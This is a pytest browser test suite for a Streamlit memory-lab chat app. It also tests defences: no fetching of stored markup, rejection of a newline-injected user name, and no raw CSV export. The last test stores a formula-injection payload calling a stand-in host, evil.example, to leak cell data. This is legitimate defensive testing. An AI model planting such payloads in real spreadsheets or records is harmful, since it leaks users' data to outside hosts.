"""The real app in a real browser: `streamlit run`, headless Chromium, every page, screenshots."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from memory.backends.redis_server import free_port

ROOT = Path(__file__).resolve().parent.parent
SHOTS = ROOT / "artifacts" / "screenshots"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
PAGES = [
    ("", "Memory Lab"),
    ("chat", "Chat playground"),
    ("compare", "Compare strategies"),
    ("redis_keys", "Redis keys"),
    ("summaries", "Summaries"),
    ("vector_memory", "Vector memory"),
    ("recall_lab", "Recall Lab"),
    ("audit", "Audit trail"),
]
NAV_LABELS = [
    "Home",
    "Chat playground",
    "Compare",
    "Redis keys",
    "Summaries",
    "Vector memory",
    "Audit trail",
    "Recall Lab",
]

pytestmark = pytest.mark.skipif(
    CHROMIUM is None,
    reason="Chromium is not installed (Debian package 'chromium'); `make test` installs it where it can",
)


@pytest.fixture()
def served_app(settings, tmp_path):
    yield from _serve(dict(os.environ, MEMLAB_DATA_DIR=str(settings.data_dir), REDIS_URL=settings.redis_url), tmp_path)


def _serve(env: dict[str, str], tmp_path: Path):
    """`streamlit run app.py` on a free loopback port; yields its URL and stops it by process group."""
    port = free_port()
    log = open(tmp_path / "streamlit.log", "w")
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "streamlit",
            "run",
            "app.py",
            "--server.address",
            "127.0.0.1",
            "--server.port",
            str(port),
            "--server.headless",
            "true",
        ],
        cwd=ROOT,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    try:
        url = f"http://127.0.0.1:{port}/"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if urllib.request.urlopen(url + "_stcore/health", timeout=2).status == 200:
                    break
            except OSError:
                time.sleep(0.3)
        else:
            pytest.fail("streamlit did not come up: " + (tmp_path / "streamlit.log").read_text()[-2000:])
        yield url
    finally:
        try:
            os.killpg(proc.pid, signal.SIGTERM)
            proc.wait(timeout=10)
        except (ProcessLookupError, subprocess.TimeoutExpired):
            os.killpg(proc.pid, signal.SIGKILL)
        log.close()


def launch(playwright):
    """Headless Debian Chromium with the flags this machine needs (no background networking)."""
    return playwright.chromium.launch(
        executable_path=CHROMIUM,
        args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
    )


def say(page, url: str, text: str) -> None:
    """Open the chat page at ``url``, send ``text`` and wait for the reply."""
    page.goto(url)
    page.wait_for_selector("text=Backends", timeout=120_000)
    before = page.get_by_test_id("stChatMessage").count()
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(text)
    box.press("Enter")
    page.wait_for_function(
        f"document.querySelectorAll('[data-testid=stChatMessage]').length >= {before + 2}", timeout=120_000
    )


def _idle(page) -> None:
    time.sleep(1.0)
    page.wait_for_function(
        "!document.querySelector('[data-testid=stStatusWidget]') && !document.querySelector('[data-testid=stSpinner]')",
        timeout=120_000,
    )
    time.sleep(0.5)


def test_every_page_renders_in_chromium(served_app):
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")
    SHOTS.mkdir(parents=True, exist_ok=True)
    with sync_api.sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            outside: list[str] = []
            page.on("request", lambda r: outside.append(r.url) if not _local(r.url) else None)
            say(page, served_app + "chat", "My name is Alice.")
            _idle(page)
            for path, title in PAGES:
                page.goto(served_app + path)
                page.wait_for_selector("text=Backends", timeout=120_000)
                page.get_by_role("heading", name=title, level=1).wait_for(timeout=60_000)
                _idle(page)
                assert page.locator("[data-testid=stException]").count() == 0, f"exception box on {title}"
                assert _nav_links(page) == NAV_LABELS, f"the grouped links on a deep link to {title}"
                page.screenshot(path=str(SHOTS / f"{path or 'home'}.png"), full_page=True)
                assert (SHOTS / f"{path or 'home'}.png").stat().st_size > 10_000
            page.goto(served_app + "chat")
            page.wait_for_selector("text=Backends", timeout=120_000)
            _idle(page)
            messages = page.get_by_test_id("stChatMessage")
            messages.nth(1).wait_for(timeout=60_000)  # the reply, after the page has settled
            shown = messages.all_inner_texts()
            assert len(shown) == 2 and "Alice" in shown[1], shown
            assert outside == [], f"requests left 127.0.0.1: {outside[:5]}"
        finally:
            browser.close()


def _nav_links(page) -> list[str]:
    """The labels of the sidebar's page links, in order (the default page list is hidden)."""
    assert page.get_by_test_id("stSidebarNav").count() == 0, "Streamlit's own page list is showing"
    texts = page.locator("[data-testid=stSidebar] [data-testid=stPageLink] a").all_inner_texts()
    return [t.strip().splitlines()[-1] for t in texts]  # the icon's ligature name comes first


def test_a_deep_link_with_redis_down_shows_the_sidebar_and_the_banner(tmp_path):
    """Each page file runs alone on a deep link; it must still draw the shared sidebar and the banner."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")
    down = f"redis://127.0.0.1:{free_port()}/0"
    env = dict(os.environ, MEMLAB_DATA_DIR=str(tmp_path / "data"), REDIS_URL=down)
    server = _serve(env, tmp_path)
    url = next(server)
    try:
        with sync_api.sync_playwright() as p:
            browser = launch(p)
            try:
                page = browser.new_page(viewport={"width": 1400, "height": 900})
                for path, title in PAGES:
                    page.goto(url + path)
                    page.get_by_role("heading", name=title, level=1).wait_for(timeout=120_000)
                    _idle(page)
                    banner = page.get_by_test_id("stAlertContentError").all_inner_texts()
                    assert any("Redis is unreachable" in b for b in banner), (title, banner)
                    assert page.locator("[data-testid=stException]").count() == 0, f"exception box on {title}"
                    assert _nav_links(page) == NAV_LABELS, title
                    assert page.get_by_test_id("stSidebar").get_by_text("User & session").count() == 1
            finally:
                browser.close()
    finally:
        server.close()


def _local(url: str) -> bool:
    from urllib.parse import urlparse

    return urlparse(url).scheme in ("data", "blob", "about") or urlparse(url).hostname in ("127.0.0.1", "localhost")


def test_pages_follow_a_dark_system_theme(served_app):
    """No theme is pinned: a browser that prefers dark gets the dark theme (screenshots for review)."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")
    SHOTS.mkdir(parents=True, exist_ok=True)
    with sync_api.sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000}, color_scheme="dark")
            for path, title in PAGES:
                page.goto(served_app + path)
                page.get_by_role("heading", name=title, level=1).wait_for(timeout=120_000)
                _idle(page)
                background = page.evaluate(
                    "getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor"
                )
                assert background == "rgb(15, 20, 25)", (title, background)
                page.screenshot(path=str(SHOTS / f"dark-{path or 'home'}.png"), full_page=True)
        finally:
            browser.close()


@pytest.fixture()
def pixel_server():
    """A local HTTP server that counts every request: an image fetched from stored text shows up here."""
    import http.server
    import socketserver
    import threading

    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # the stdlib's name
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = socketserver.TCPServer(("127.0.0.1", free_port()), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], hits
    finally:
        server.shutdown()
        server.server_close()


def test_stored_markup_is_never_fetched_by_the_browser(served_app, settings, pixel_server):
    import json

    import redis

    from memory.lab import MemoryLab

    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")
    port, hits = pixel_server
    image = f"![x](http://127.0.0.1:{port}/pixel.png)"
    lab = MemoryLab(settings)
    lab.chat("demo", "s1", f"Typed by the user: {image} and https://example.com/a_b.html", strategy="summary")
    raw = redis.Redis.from_url(settings.redis_url)
    k, u = lab.keys.session("demo", "s1"), lab.keys.user("demo")
    entry = json.dumps({"v": image, "id": "x", "role": "user", "content": image, "created_at": 1})
    for key in (k.log, k.buffer, k.folds, u.fact_log):
        raw.rpush(key, entry)
    raw.hset(k.traces, "x", json.dumps({"strategy": image, "warnings": [image]}))
    with sync_api.sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 2000})
            for path in ("", "chat", "summaries", "redis_keys", "vector_memory"):
                page.goto(served_app + path)
                page.wait_for_selector("text=Backends", timeout=120_000)
                _idle(page)
                assert page.locator("[data-testid=stException]").count() == 0
            page.goto(served_app + "chat")
            page.wait_for_selector("text=Backends", timeout=120_000)
            _idle(page)
            page.screenshot(path=str(SHOTS / "stored-markup.png"))
            link = page.locator("a[href='https://example.com/a_b.html']")
            assert link.count() >= 1, "a URL the user typed stays a link, unescaped"
        finally:
            browser.close()
    assert hits == [], f"the browser fetched {hits} from stored text"


def _pick(page, combobox: str, option: str) -> None:
    """Choose ``option`` in the selectbox labelled ``combobox`` (the list may need a second click to open)."""
    for _ in range(4):
        page.get_by_role("combobox", name=combobox, exact=True).click()
        try:
            page.get_by_role("option", name=option).first.click(timeout=4000)
            _idle(page)
            return
        except Exception:  # noqa: BLE001 - playwright's timeout: the list did not open, try again
            page.keyboard.press("Escape")
    pytest.fail(f"could not pick {option!r} in {combobox!r}")


def test_a_refused_link_and_the_fact_editor_in_chromium(served_app, settings):
    """A link naming an invalid user opens nothing; the editor follows the picked fact through edits and undo."""
    from memory.lab import MemoryLab

    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")
    SHOTS.mkdir(parents=True, exist_ok=True)
    lab = MemoryLab(settings)
    lab.facts.restore("maya", "a" * 32, "The user's name is Maya.", "name", "s1", event="ADD")
    lab.facts.restore("maya", "b" * 32, "The user lives in Malmö.", "location", "s1", event="ADD")
    with sync_api.sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 900})
            page.goto(served_app + "chat?user=al%0Aice&session=s1")
            page.get_by_role("heading", name="Chat playground", level=1).wait_for(timeout=120_000)
            _idle(page)
            errors = page.get_by_test_id("stAlertContentError").all_inner_texts()
            assert any("al\\nice" in e and "was not opened" in e for e in errors), errors
            assert page.get_by_test_id("stChatInputTextArea").count() == 0, "nothing can be sent under any user"
            page.screenshot(path=str(SHOTS / "refused-link.png"))

            page.goto(served_app + "vector_memory?user=maya&session=s1")
            page.get_by_role("heading", name="Vector memory", level=1).wait_for(timeout=120_000)
            _idle(page)
            _pick(page, "Fact", "Malmö")
            box = page.get_by_role("textbox", name="New text")
            assert box.input_value() == "The user lives in Malmö."
            box.fill("The user lives in Malmö,")
            box.press("End")
            box.press("Enter")  # a line break in the box, not a save
            box.type("Sweden.")
            _idle(page)
            assert [e.event for e in lab.facts.history("maya").items] == ["ADD", "ADD"]
            page.get_by_role("button", name="Save the edit").dblclick()
            _idle(page)
            assert [e.event for e in lab.facts.history("maya").items] == ["ADD", "ADD", "EDIT"]
            query = page.get_by_role("textbox", name="Query")
            query.fill("where do I live")
            query.press("Enter")  # another widget: the editor stays on the edited fact, with its text of now
            _idle(page)
            picked = page.get_by_role("combobox", name="Fact", exact=True).input_value()
            assert picked.startswith("The user lives in Malmö, Sweden."), picked
            assert page.get_by_role("textbox", name="New text").input_value() == "The user lives in Malmö, Sweden."
            page.get_by_role("heading", name="Edit, undo, take away").scroll_into_view_if_needed()
            page.screenshot(path=str(SHOTS / "fact-editor.png"))
            page.get_by_role("button", name="Undo the last change").click()
            _idle(page)
            assert {r.id: r.text for r in lab.facts.all("maya")}["b" * 32] == "The user lives in Malmö."
            assert page.get_by_role("textbox", name="New text").input_value() == "The user lives in Malmö."
            assert page.locator("[data-testid=stException]").count() == 0
        finally:
            browser.close()
            lab.close()


def test_no_table_offers_a_download_of_stored_text_as_it_is(served_app, settings):
    """st.dataframe's toolbar "Download as CSV" writes cells as they are (``=HYPERLINK(…)`` stays a formula):
    tables offer none; the page's own CSV export (neutralised) is the way to download the trail."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")
    from memory.lab import MemoryLab

    lab = MemoryLab(settings)
    try:
        lab.chat("csvu", "c1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', strategy="buffer")
    finally:
        lab.close()
    with sync_api.sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            for path in ("audit?user=csvu", "redis_keys?user=csvu&session=c1"):
                page.goto(served_app + path)
                page.wait_for_selector("[data-testid=stDataFrame]", timeout=120_000)
                _idle(page)
                frame = page.locator("[data-testid=stDataFrame]").first
                frame.hover()
                toolbar = page.locator("[data-testid=stElementToolbar]").first
                toolbar.wait_for(timeout=30_000)
                labels = toolbar.locator("button").evaluate_all("els => els.map(e => e.getAttribute('aria-label'))")
                assert "Search" in labels and "Download as CSV" not in labels, (path, labels)
        finally:
            browser.close()
